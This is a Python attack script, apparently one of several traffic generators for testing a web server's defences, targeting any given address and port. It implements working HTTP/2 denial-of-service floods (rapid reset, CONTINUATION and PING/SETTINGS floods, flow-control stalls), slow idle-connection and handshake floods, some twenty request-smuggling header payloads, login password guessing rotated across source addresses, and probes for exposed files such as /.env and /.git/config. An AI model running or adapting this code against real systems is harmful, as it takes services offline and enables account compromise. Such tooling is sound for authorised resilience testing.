"""One of the attackers: attack.py KIND SECONDS SOURCE ADDRESS PORT. It says in JSON what it sent and how it was met."""

import collections
import json
import random
import socket
import ssl
import struct
import sys
import time

KIND, SECONDS, SOURCE, ADDRESS, PORT = sys.argv[1:]
HOST = "shop.example"
END = time.monotonic() + float(SECONDS)
met = collections.Counter()
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def main():
    if KIND in FLOODS:
        flood(KIND)
    else:
        {"smuggling": smuggle, "idle": idle, "handshakes": shake, "guesses": guess, "scanner": scan,
         "stalls": stall}[KIND]()
    print(json.dumps({"kind": KIND, **met}))


def on():
    return time.monotonic() < END


def connect(protocol="http/1.1", name=HOST, source=SOURCE, tls=True):
    """A connection, or nothing: to be turned away is counted."""
    plain = None
    try:
        plain = socket.create_connection((ADDRESS, int(PORT)), 10, (source, 0))
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        met["connections"] += 1
        if not tls:
            return plain
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        return context.wrap_socket(plain, server_hostname=name)
    except OSError:
        met["turned away"] += 1
        if plain:
            plain.close()
        time.sleep(0.05)
        return None


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


def request(path="/"):
    fields = ((":method", "GET"), (":scheme", "https"), (":path", path), (":authority", HOST))
    return b"".join(literal(name, value) for name, value in fields)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ASK = request()
# Each: what the n-th blow is; see RFC 9113 and CVE-2023-44487, CVE-2025-8671, CVE-2024-27316.
FLOODS = {
    "rapid reset": lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, ASK)
    + frame(RST, 0, 2 * n + 1, struct.pack(">I", 8)),
    "made resets": lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, ASK)
    + frame(WINDOW, 0, 2 * n + 1, bytes(4)),
    "continuation": lambda n: frame(HEADERS, 0, 1, ASK) if n == 0 else frame(CONTINUATION, 0, 1, literal("x", "y" * 90) * 4),
    "ping": lambda n: frame(PING, 0, 0, bytes(8)),
    "settings": lambda n: frame(SETTINGS, 0, 0),
    "empty data": lambda n: frame(HEADERS, END_HEADERS, 1, ASK) if n == 0 else frame(DATA, 0, 1),
}


def flood(kind):
    while on():
        stream = connect("h2")
        if not stream:
            continue
        try:
            stream.sendall(PREFACE + frame(SETTINGS, 0, 0))
            number = 0
            while on() and number < 200_000:
                blows = b"".join(FLOODS[kind](number + more) for more in range(20))
                stream.settimeout(2)
                stream.sendall(blows)
                number += 20
                met["sent"] += 20
                stream.settimeout(0.0005)
                try:
                    if not stream.recv(65536):
                        break
                except (TimeoutError, ssl.SSLWantReadError):
                    pass
            met["cut off" if on() else "open at the end"] += 1
        except OSError:
            met["cut off"] += 1
        stream.close()


def stall():
    """Asks for much, and gives no window to send it in (RFC 9113 §10.5)."""
    held = []
    while on():
        stream = connect("h2")
        if stream:
            stream.settimeout(2)
            settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
            asks = (frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, request("/long/download?bytes=1000000")) for n in range(50))
            try:
                stream.sendall(PREFACE + settings + b"".join(asks))
                met["sent"] += 50
                held.append(stream)
            except OSError:
                met["cut off"] += 1
        if len(held) >= 20:
            wait_for_end(held)
        time.sleep(0.2)
    met["open at the end"] += len(held)


def wait_for_end(held):
    """Takes out of those that are held the ones that the other side has closed."""
    for stream in list(held):
        stream.setblocking(False)
        try:
            while data := stream.recv(65536):
                pass
            ended = data == b""
        except (BlockingIOError, ssl.SSLWantReadError):
            ended = False
        except OSError:
            ended = True
        if ended:
            met["cut off"] += 1
            held.remove(stream)
            stream.close()


def idle():
    """Half of them say hello and then nothing, half not even that."""
    held = []
    while on():
        if len(held) < 300:
            stream = connect(tls=len(held) % 2 == 0)
            if stream:
                met["sent"] += 1
                held.append(stream)
        else:
            time.sleep(0.1)
        if len(held) % 20 == 0:
            wait_for_end(held)
    met["open at the end"] += len(held)


def shake():
    while on():
        stream = connect()
        if stream:
            met["sent"] += 1
            stream.close()


POST = f"POST / HTTP/1.1\r\nhost: {HOST}\r\n"
SMUGGLED = f"GET /smuggled HTTP/1.1\r\nhost: {HOST}\r\n\r\n"
SMUGGLERS = [POST + fields + "\r\n\r\n" for fields in (
    "content-length: 5\r\ntransfer-encoding: chunked",
    "transfer-encoding: chunked\r\ncontent-length: 5",
    "transfer-encoding: chunked\r\ntransfer-encoding: identity",
    "transfer-encoding: xchunked",
    "transfer-encoding: gzip, chunked",
    "transfer-encoding: \x0bchunked",
    "transfer-encoding : chunked",
    "transfer-encoding:\r\n chunked",
    "transfer-encoding: chunked\r\nx: y\rcontent-length: 5",
    "content-length: 5\r\ncontent-length: 6",
    "content-length: +5",
    "content-length: 0x5",
    "content-length: 5, 5",
    "content-length : 5",
    "content-length: 99999999999999999999999999",
    "content\0-length: 5",
    "connection: content-length\r\ncontent-length: 0",
    f"host: other.example\r\ncontent-length: 0",
)] + [f"GET / HTTP/1.1\r\nhost: {HOST}\nx: y\r\n\r\n", f"GET / HTTP/1.1\r\n host: {HOST}\r\n\r\n"]


def smuggle():
    while on():
        for head in SMUGGLERS:
            exchange(connect(), head + "0\r\n\r\n" + SMUGGLED)
            time.sleep(0.01)
            if not on():
                return


def exchange(stream, said):
    if not stream:
        return
    try:
        stream.settimeout(10)
        stream.sendall(said.encode("latin-1"))
        met["sent"] += 1
        answer = stream.recv(4096)
        met[answer[9:12].decode("latin-1") if answer.startswith(b"HTTP/1.1 ") else "closed without a word"] += 1
    except OSError:
        met["closed without a word"] += 1
    stream.close()


def guess():
    """From four addresses, the user's name that everybody knows and others."""
    network = SOURCE.rsplit(".", 1)[0]
    while on():
        for last in range(10, 14):
            name = random.choice(["ann", "ann", "root", f"user{random.randrange(1000)}"])
            body = f"user={name}&password={random.randrange(10**9)}"
            head = f"POST /login HTTP/1.1\r\nhost: {HOST}\r\nconnection: close\r\n" \
                   f"content-type: application/x-www-form-urlencoded\r\ncontent-length: {len(body)}\r\n\r\n"
            exchange(connect(source=f"{network}.{last}"), head + body)
            time.sleep(0.005)


def scan():
    paths = ["/", "/.env", "/.git/config", "/wp-login.php", "/admin", "/phpmyadmin/", "/server-status"]
    while on():
        for host, name in ((ADDRESS, None), ("www.google.com", "www.google.com"), ("localhost", "localhost")):
            path = random.choice(paths)
            exchange(connect(name=name), f"GET {path} HTTP/1.1\r\nhost: {host}\r\nuser-agent: zgrab/0.x\r\nconnection: close\r\n\r\n")
            time.sleep(0.01)


main()
